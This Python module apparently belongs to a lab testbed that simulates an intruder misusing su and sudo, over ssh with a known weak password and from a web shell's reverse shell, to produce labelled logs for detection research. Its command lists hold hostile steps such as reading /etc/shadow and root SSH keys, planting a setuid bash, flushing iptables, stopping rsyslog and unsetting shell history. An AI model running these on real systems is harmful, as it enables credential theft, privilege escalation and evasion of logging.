"""An intruder on a server: su and sudo misuse, over ssh with a stolen password and from a web shell's terminal.

Honest people keep off the server meanwhile (lab.sessions), so su and sudo lines of a step's time are the intruder's.
"""

import random
import subprocess
import time

from actors.colleagues import SSH
from attacks import webshell

LABELS = {
    "su": "attacker_change_user:escalate",
    "su_session": "attacker_change_user:escalate:escalated_command:escalated_sudo_command",
    "sudo": "escalate:escalated_command:escalated_sudo_command",
    "sudo_session": "escalate:escalated_command:escalated_sudo_command:escalated_sudo_session",
}
MISUSE = ["cat /etc/shadow", "cat /etc/sudoers", "ls -la /root", "cat /root/.ssh/authorized_keys", "cat /root/.ssh/id_rsa", "cat /root/.bash_history", "cp /bin/bash /tmp/.b", "chmod u+s /tmp/.b",
          "tail /var/log/auth.log", "grep -r password /etc", "find / -maxdepth 2 -name id_rsa", "cp /etc/shadow /tmp/s", "tar czf /tmp/h.tgz /home", "useradd --help", "vim -c :!/bin/true -c q", "python3 -c 'import os'",
          "id", "whoami", "sh -c id", "bash -c 'cat /etc/shadow'", "awk 'BEGIN {system(\"id\")}'", "env /bin/true", "find . -maxdepth 0 -exec id ;", "tee /etc/cron.d/zz", "dd if=/etc/shadow of=/tmp/sh",
          "crontab -l", "cat /var/www/site/wp-config.php", "mysqldump --version", "nc -h", "cat /etc/gshadow", "base64 /etc/shadow", "xxd /etc/shadow", "systemctl stop rsyslog", "rm -f /tmp/s", "ip addr",
          "iptables -F", "touch /root/.x", "passwd --help", "unshadow /etc/passwd /etc/shadow", "strings /etc/shadow", "cut -d: -f1 /etc/shadow", "-u www-data id", "-u root /bin/sh -c id", "visudo -c"]


def _type(process, typed):
    for wait, text in typed:
        time.sleep(wait)
        try:
            process.stdin.write(text + "\n")
            process.stdin.flush()
        except BrokenPipeError:
            return


def _ssh_session(lab, host, person, name, source, typed):
    """One ssh session with a stolen password, as one step: what sshd says of it has no label, su and sudo have."""
    with lab.sessions[host.name], lab.shared_address:
        with lab.journal.step(name, "ssh", [source], LABELS, hosts=[host.name]):
            process = subprocess.Popen(
                lab.attacker.command(["timeout", "60", "sshpass", "-p", person.password, "ssh", "-tt", "-b", source, *SSH, f"{person.login}@{host.address}"]),
                stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, text=True, start_new_session=True)
            _type(process, [(1.5, "unset HISTFILE"), *typed, (.5, "exit"), (.5, "exit"), (.5, "exit")])
            try:
                process.stdin.close()
                process.wait(15)
            except (subprocess.TimeoutExpired, BrokenPipeError):
                process.kill()


def over_ssh(lab):
    """Sessions with the guessed password: list rights, read secrets, become root and others."""
    bed, rng = lab.testbed, random.Random(lab.testbed.seed + 700)
    hit = next(person for person in bed.people if person.weak)
    # `su` needs passwords: the intruder found some in files and in the web site's database.
    others = [person for person in bed.people if person is not hit]
    rounds = 1 if bed.short else 6
    for i in range(rounds):
        host = lab.intra if bed.short else lab.hosts[i % 3]
        source = (bed.intruder.address, bed.intruder.shared_address)[i % 2]
        typed = [(.6, "id"), (.6, "sudo -l"), (.8, hit.password)]
        for command in rng.sample(MISUSE, 4 if bed.short else 7):
            typed.append((rng.uniform(.4, 1.0), f"sudo {command} </dev/null >/dev/null 2>&1"))
        become = rng.choice(["sudo su", "sudo su -", "sudo -i", "sudo -s", "sudo /bin/bash"]) if i else "sudo su -"
        typed += [(.8, become), (1, "id"), (.5, "cat /etc/shadow > /dev/null"), (.5, "su - " + others[i % len(others)].login), (1, "id"), (.4, "exit"), (.5, "exit")]
        victim = others[(i + 1) % len(others)]
        typed += [(.6, f"su - {victim.login}"), (1, victim.password), (1, "id"), (.4, "sudo -l"), (.7, victim.password), (2.2 if victim.sudo else 1, "ls"), (.4, "exit")]
        typed += [(.6, f"su {others[(i + 2) % len(others)].login}"), (1, "wrongguess"), (3, "su -"), (1, "toor"), (3, "id")]
        _ssh_session(lab, host, hit, f"ssh-misuse-{i}", source, typed)


def from_web(lab, shells):
    """From the web server's account to a person's, and on to root."""
    bed, rng = lab.testbed, random.Random(lab.testbed.seed + 800)
    plain = [shell for shell in shells if shell[0] is lab.web][:1] + [shell for shell in shells if shell[0] is lab.intra][:1]
    admins = [person for person in bed.people if person.sudo]
    for i, shell in enumerate(plain * (1 if bed.short else 2)):
        host = shell[0]
        person = admins[i % len(admins)]
        typed = [(.8, f"su {'- ' if i % 2 else ''}{person.login}"), (1, person.password), (.8, "id"), (.5, "sudo -l"), (.8, person.password)]
        typed += [(.7, f"sudo {command} </dev/null >/dev/null 2>&1") for command in rng.sample(MISUSE, 5)]
        typed += [(.8, "sudo su"), (.8, "id"), (.4, "exit"), (.5, "exit"), (.5, "su root"), (.8, "password"), (3, "exit"), (.5, "exit")]
        with lab.sessions[host.name]:
            recording = lab.journal.step(f"shell-misuse-{i}", "su", [], LABELS, hosts=[host.name])
            webshell.reverse(lab, shell, 4400 + i, [(0, recording.__enter__), *typed, (1, lambda r=recording: r.__exit__(None, None, None))])
